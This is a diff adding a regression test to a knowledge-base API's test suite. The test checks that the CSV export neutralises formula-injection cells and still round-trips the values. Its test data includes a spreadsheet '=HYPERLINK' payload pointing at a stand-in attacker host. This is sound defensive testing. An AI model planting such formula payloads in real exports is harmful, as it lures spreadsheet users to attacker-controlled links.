@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import uuid
 
@@ -143,3 +145,28 @@ def test_unanswered_inbox(client: TestClient, admin_client: tuple[TestClient, in
     assert draft.json()["question"] == odd + " please"
     remaining = api.get("/api/v1/kb/unanswered", params={"language": "en"}).json()
     assert all(i["id"] not in (item_id, other) for g in remaining for i in g["items"])
+
+
+def test_csv_export_guards_formula_cells_and_round_trips_them(admin_client: tuple[TestClient, int]) -> None:
+    # Issue 22 (low): a cell starting with = + - @ ran as a formula when an admin opened the export.
+    api, _ = admin_client
+    tag = uuid.uuid4().hex[:6]
+    body = {
+        "question": f'=HYPERLINK("http://evil.example/?{tag}","click")',
+        "answer": "-2+3 is the sum; @mention; 'quoted",
+        "variants": [f"+1 call us {tag}", "'=already guarded"],
+        "language": "en",
+    }
+    created = api.post("/api/v1/kb/faqs", json=body)
+    assert created.status_code == 201, created.text
+    faq_id = created.json()["id"]
+    exported = api.get("/api/v1/kb/export", params={"format": "csv"}).text
+    row = next(r for r in csv.DictReader(io.StringIO(exported)) if r["id"] == faq_id)
+    assert row["question"].startswith("'=HYPERLINK") and row["answer"].startswith("'-2+3")
+    assert row["variants"].startswith("'+1 call us")
+    assert all(not v.startswith(("=", "+", "-", "@")) for v in row.values())
+    reimport = api.post("/api/v1/kb/import", files={"file": ("all.csv", exported.encode())})
+    assert reimport.status_code == 200, reimport.text
+    again = api.get(f"/api/v1/kb/faqs/{faq_id}").json()
+    assert (again["question"], again["answer"]) == (body["question"], body["answer"])
+    assert sorted(again["variants"]) == sorted(body["variants"])
